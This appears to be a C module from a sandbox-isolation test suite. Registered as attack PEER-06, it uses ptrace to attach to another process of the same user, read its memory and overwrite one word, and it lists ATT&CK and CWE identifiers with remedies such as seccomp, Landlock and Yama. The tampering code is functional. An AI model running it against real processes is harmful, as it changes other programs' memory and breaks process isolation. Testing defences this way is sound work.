// SPDX-License-Identifier: MIT
/*
 * Goal:  another process goes on with other data.
 * Means: ptrace(2): attach, read its memory word by word, change one word, let it go.
 */
#include "attacks/peer-tampering/target.h"

#include <errno.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static bool peek(pid_t pid, unsigned long at, char page[4096])
{
	for (size_t i = 0; i < 4096; i += sizeof(long)) {
		long word;

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, (void *)(at + i), NULL);
		if (errno)
			return false;
		memcpy(page + i, &word, sizeof(word));
		if (page[i] != 0x5a)
			break; /* not the page we look for: the rest does not matter */
	}
	return true;
}

static enum claim run(const struct brief *b)
{
	enum claim claim = CLAIM_DONE;
	pid_t pid = target(b);
	unsigned long work;

	attempting(b);
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
		return denied("ptrace");
	waitpid(pid, NULL, __WALL);
	work = find_work(pid, peek);
	if (!work || ptrace(PTRACE_POKEDATA, pid, (void *)work, (void *)1l))
		claim = hold(); /* not changed, but traced and stopped it is */
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return claim;
}

const struct attack attack = {
	.effect = "another process of the user is traced, and its memory is changed",
	.means = "ptrace(2): PTRACE_ATTACH, PTRACE_PEEKDATA, PTRACE_POKEDATA",
	.oracle = "bystander",
	.quick = true,
	.id = "PEER-06",
	.attack_id = "T1055.008, CWE-269",
	.remedy = "seccomp; Landlock (no tracing of its outside); Yama; a non-dumpable worker",
	.refs = (const char *const[]){ "ptrace(2)", NULL },
	.run = run,
};
